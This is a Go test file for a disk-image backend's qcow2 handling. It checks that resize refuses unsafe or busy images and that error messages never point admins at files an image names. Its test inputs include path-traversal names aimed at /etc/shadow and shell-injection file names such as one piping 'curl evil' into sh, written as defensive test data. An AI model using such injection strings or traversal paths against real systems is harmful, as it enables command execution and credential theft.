package image

import (
	"bytes"
	"encoding/binary"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"domfs/backend"
	"domfs/backend/backendtest/loop"
	"domfs/backend/backendtest/testneed"

	"golang.org/x/sys/unix"
)

// incompatibleByte is where the low bits of a header's incompatible features are; 4 is an external data file.
const incompatibleByte = 79

// Whoever has an image open for writing lets its header name a data file just when qemu-img looks.
func TestResize_OfQcow2NeverOpensADataFileThatAWriterNames(t *testing.T) {
	testneed.Tools(t, "qemu-img")
	path, victim := filepath.Join(t.TempDir(), "a.qcow2"), filepath.Join(t.TempDir(), "victim")
	loop.Command(t, "qemu-img", "create", "-q", "-f", "qcow2", "-o", "data_file="+victim, path, "1M")
	secret := []byte("root:x:0:0\n")
	if err := os.WriteFile(victim, secret, 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	flip := func(bits byte) {
		if _, err := f.WriteAt([]byte{bits}, incompatibleByte); err != nil {
			t.Error(err)
		}
	}
	flip(0)
	s := New(nil, formats, nil)
	v := qcow2Volume(t, s, path)
	if v.Err != nil {
		t.Fatal(v.Err)
	}
	var stop atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := byte(0); !stop.Load(); i++ {
			flip(4 * (i & 1))
		}
	}()
	busy := 0
	for end := time.Now().Add(20 * time.Second); busy < 50 && time.Now().Before(end); {
		got, err := s.Resize(t.Context(), v, 2<<20)
		if errors.Is(err, backend.ErrBusy) {
			busy++
		} else if !errors.Is(err, backend.ErrUnsupported) || strings.Contains(err.Error(), "left it") { // else the header had the bit from the start
			t.Errorf("Resize = %d, %v: qemu-img was run", got, err)
			break
		}
	}
	stop.Store(true)
	<-done
	if busy == 0 {
		t.Error("the header had a data file each time")
	}
	if b, err := os.ReadFile(victim); err != nil || !bytes.Equal(b, secret) {
		t.Errorf("the file that the image named has %d bytes now, %v", len(b), err)
	}
	flip(0)
	f.Close()
	if got, err := s.Resize(t.Context(), v, 2<<20); err != nil || got != 2<<20 {
		t.Errorf("without the writer: %d, %v", got, err)
	}
}

// setWritersACL lets user 65534 write to a file that its owner's group may not write to.
func setWritersACL(t *testing.T, path string) {
	t.Helper()
	acl := binary.LittleEndian.AppendUint32(nil, 2)
	for _, e := range []struct {
		tag, perm uint16
		id        uint32
	}{{0x01, 6, 1<<32 - 1}, {0x02, 6, 65534}, {0x04, 4, 1<<32 - 1}, {0x10, 6, 1<<32 - 1}, {0x20, 4, 1<<32 - 1}} {
		acl = binary.LittleEndian.AppendUint16(acl, e.tag)
		acl = binary.LittleEndian.AppendUint16(acl, e.perm)
		acl = binary.LittleEndian.AppendUint32(acl, e.id)
	}
	if err := unix.Setxattr(path, "system.posix_acl_access", acl, 0); err != nil {
		t.Fatal(err)
	}
}

func TestResize_OfQcow2RefusesAnImageThatOthersCanWriteTo(t *testing.T) {
	testneed.Root(t)
	mode := func(perm os.FileMode) func(path string) error {
		return func(path string) error { return os.Chmod(path, perm) }
	}
	for _, c := range []struct {
		name, file string
		loosen     func(path string) error
		noLease    bool
	}{
		{"group", "top.qcow2", mode(0o660), false},
		{"group", "mid.qcow2", mode(0o660), true},
		{"others", "base.raw", mode(0o646), false},
		{"owner", "top.qcow2", func(path string) error { return os.Chown(path, 65534, -1) }, true},
		{"owner", "mid.qcow2", func(path string) error { return os.Chown(path, 65534, -1) }, false},
		{"ACL", "top.qcow2", func(path string) error { setWritersACL(t, path); return nil }, false},
	} {
		t.Run(c.name+" of "+c.file, func(t *testing.T) {
			folder := t.TempDir()
			top, loose := chainOf3(t, folder), filepath.Join(folder, c.file)
			if err := c.loosen(loose); err != nil {
				t.Fatal(err)
			}
			s := New([]string{folder}, formats, nil)
			s.noLease = c.noLease
			v := qcow2Volume(t, s, top)
			before, err := os.ReadFile(top)
			if err != nil {
				t.Fatal(err)
			}
			_, err = s.Resize(t.Context(), v, 8<<20)
			if !errors.Is(err, backend.ErrPermission) || !strings.Contains(err.Error(), top) {
				t.Fatalf("Resize = %v", err)
			}
			if after, err := os.ReadFile(top); err != nil || !bytes.Equal(after, before) {
				t.Errorf("it has changed, %v", err)
			}
			// What it says is what helps.
			says := regexp.MustCompile(`run (chown root \S+) and (chmod go-w \S+),`).FindStringSubmatch(err.Error())
			if says == nil || !strings.HasSuffix(says[1], " "+loose) {
				t.Fatalf("%v tells nothing to run on %s", err, loose)
			}
			loop.Command(t, "sh", "-e", "-c", says[1]+"\n"+says[2])
			if got, err := s.Resize(t.Context(), v, 8<<20); err != nil || got != 8<<20 {
				t.Errorf("after that: %d, %v", got, err)
			}
		})
	}
}

func TestResize_OfQcow2RefusesAnImageThatIsOpenForWriting(t *testing.T) {
	folder := t.TempDir()
	top := chainOf3(t, folder)
	sizeBytes := int64(8 << 20)
	for _, noLease := range []bool{false, true} {
		for _, file := range []string{"top.qcow2", "mid.qcow2", "base.raw"} {
			sizeBytes += 1 << 20
			s := New([]string{folder}, formats, nil)
			s.noLease = noLease
			v := qcow2Volume(t, s, top)
			writer := startHelper(t, true, "hold", filepath.Join(folder, file))
			if _, err := s.Resize(t.Context(), v, sizeBytes); !errors.Is(err, backend.ErrBusy) || !strings.Contains(err.Error(), file) || !strings.Contains(err.Error(), "pid ") {
				t.Errorf("%s, without leases %v: Resize = %v", file, noLease, err)
			}
			stopHelper(writer)
			if got, err := s.Resize(t.Context(), v, sizeBytes); err != nil || got != sizeBytes {
				t.Errorf("%s, without leases %v: Resize = %d, %v after the writer's end", file, noLease, got, err)
			}
			if len(s.guarded) != 0 {
				t.Errorf("%d files are kept unwritten", len(s.guarded))
			}
		}
	}
}

// What a header names, whoever made the image has chosen. No command that an error tells an admin to run may read
// that into a disk which they can read (CVE-2010-3851), or have it run by the shell.
func TestErrors_LeadNobodyToReadWhatAnImageNames(t *testing.T) {
	testneed.Tools(t, "qemu-img")
	folder := t.TempDir()
	at := func(name string) string { return filepath.Join(folder, name) }
	s := New([]string{folder}, formats, nil)
	texts := map[string]string{}
	add := func(what string, v backend.Volume) {
		t.Helper()
		if v.Err == nil {
			t.Fatalf("%s is read", what)
		}
		texts[what] = v.Err.Error()
	}
	if err := os.MkdirAll(at(".domfs/set"), 0o700); err != nil {
		t.Fatal(err)
	}
	sparseImage(t, at(".domfs/set/xvda.img"), 1<<20)
	if err := unix.Mkfifo(at("fifo"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc", at("link")); err != nil {
		t.Fatal(err)
	}
	names := []string{"/etc/shadow", "../../../../../../../../etc/shadow", "link/shadow", "nbd:localhost:10809", "json:{}", "file:x", "/dev/vda", "missing", "fifo", "link",
		".domfs/set/xvda.img", "self.qcow2", "/srv/$(curl evil|sh); x/img", "/srv/`id`/img", "/srv/a b/img", "/srv/'/img", "/srv/\"$IFS\"/img", "missing;$(id)"}
	for _, name := range names {
		qemuImage(t, at("self.qcow2"), 1<<20, "qcow2:"+name)
		add("backing file "+name, qcow2Volume(t, s, at("self.qcow2")))
		forgetFormat(t, at("self.qcow2"))
		add("backing file without a format "+name, qcow2Volume(t, s, at("self.qcow2")))
	}
	qemuImage(t, at("vmdk.qcow2"), 1<<20, "vmdk:/etc/shadow")
	add("backing file in an unknown format", qcow2Volume(t, s, at("vmdk.qcow2")))
	qemuImage(t, at("mid.qcow2"), 1<<20, "raw:missing")
	for i := range maxChain + 1 {
		qemuImage(t, at("deep"+string(rune('a'+i))), 1<<20, "qcow2:deep"+string(rune('a'+i+1)))
	}
	add("too many backing files", qcow2Volume(t, s, at("deepa")))
	loop.Command(t, "qemu-img", "create", "-q", "-f", "qcow2", "-o", "data_file="+at("data"), at("data.qcow2"), "1M")
	add("data file", qcow2Volume(t, s, at("data.qcow2")))
	for what, change := range map[string]struct {
		off int64
		b   byte
	}{"version": {7, 1}, "feature": {incompatibleByte - 1, 1}, "AES": {35, 1}, "LUKS": {35, 2}, "encryption": {35, 3}, "compression": {104, 7}} {
		qemuImage(t, at("other.qcow2"), 1<<20, "raw:/etc/shadow")
		f, err := os.OpenFile(at("other.qcow2"), os.O_RDWR, 0)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.WriteAt([]byte{change.b}, change.off); err != nil {
			t.Fatal(err)
		}
		f.Close()
		add(what, qcow2Volume(t, s, at("other.qcow2")))
	}
	for _, format := range []string{"vmdk", "qed", "vhd"} {
		d := qcow2Disk(at("other.qcow2"))
		d.Format = format
		volumes, err := s.Volumes(t.Context(), []backend.Disk{d})
		if err != nil {
			t.Fatal(err)
		}
		add(format, volumes[0])
	}
	for what, says := range map[string]string{
		"backing file missing":             "restore it, or record where it is now with qemu-img rebase -u -f qcow2 -F FORMAT -b FILE " + at("self.qcow2"),
		"backing file self.qcow2":          "restore one of them",
		"backing file nbd:localhost:10809": "qemu-img rebase -u -f qcow2 -b \"\" " + at("self.qcow2") + " drops it",
		"backing file .domfs/set/xvda.img": "made anew",
		"data file":                        "made anew",
		"too many backing files":           "made anew",
		"backing file /srv/a b/img":        "--image-dir=FOLDER",
		"backing file /etc/shadow":         "whoever made it has chosen",
	} {
		if !strings.Contains(texts[what], says) {
			t.Errorf("%s: %q does not say what to do: %q", what, texts[what], says)
		}
	}
	plain := regexp.MustCompile(`^[0-9A-Za-z/._+,=@-]+$`)
	folders := 0
	for what, text := range texts {
		if strings.Contains(text, "qemu-img convert") || strings.Contains(strings.ReplaceAll(text, "rebase -u", ""), "rebase") {
			t.Errorf("%s: %s: reads what the image names", what, text)
		}
		if strings.Contains(text, "qemu-img can") && !strings.Contains(text, "only if you trust") {
			t.Errorf("%s: %s: says nothing of trust", what, text)
		}
		if _, after, ok := strings.Cut(text, "--image-dir="); ok {
			folders++
			if !plain.MatchString(after) || !strings.Contains(text, "never name a folder because an image asks for it") {
				t.Errorf("%s: %s: is no folder to name", what, text)
			}
		}
		for _, commands := range strings.SplitAfter(text, "qemu-img rebase -u")[1:] {
			if strings.ContainsAny(commands, "$`;|'") {
				t.Errorf("%s: %s: a shell reads more than a name", what, text)
			}
		}
	}
	if folders < 5 {
		t.Errorf("%d errors name a folder", folders)
	}
}

// Copies of other guests' disks lie in .domfs, beside images that may be based on what is beside them.
func TestBackingFile_IsNoSnapshot(t *testing.T) {
	folder := t.TempDir()
	if err := os.MkdirAll(filepath.Join(folder, ".domfs/set"), 0o700); err != nil {
		t.Fatal(err)
	}
	sparseImage(t, filepath.Join(folder, ".domfs/set/xvda.img"), 1<<20, 0)
	for link, target := range map[string]string{"link": ".domfs", "deep": "x/../.domfs/set/xvda.img", "abs": folder + "/.domfs/set"} {
		if err := os.Symlink(target, filepath.Join(folder, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(folder, "x"), 0o755); err != nil {
		t.Fatal(err)
	}
	over := filepath.Join(folder, "over.qcow2")
	s := New([]string{folder}, formats, nil)
	for _, name := range []string{".domfs/set/xvda.img", "./x/../.domfs/set/xvda.img", folder + "/.domfs/set/xvda.img", "link/set/xvda.img", "deep", "abs/xvda.img", ".domfs/../.domfs/set/xvda.img"} {
		qemuImage(t, over, 1<<20, "raw:"+name)
		v := qcow2Volume(t, s, over)
		if !errors.Is(v.Err, backend.ErrAccess) || !strings.Contains(v.Err.Error(), "snapshots") || !strings.Contains(v.Err.Error(), over) {
			t.Errorf("%s: Err = %v", name, v.Err)
		}
		if d, err := s.Open(t.Context(), v); err == nil {
			d.Close()
			t.Errorf("%s: it opens", name)
		}
	}
	// A name that only begins so is another's.
	sparseImage(t, filepath.Join(folder, ".domfs-base"), 1<<20, 0)
	qemuImage(t, over, 1<<20, "raw:.domfs-base")
	if v := qcow2Volume(t, s, over); v.Err != nil {
		t.Error(v.Err)
	}
}
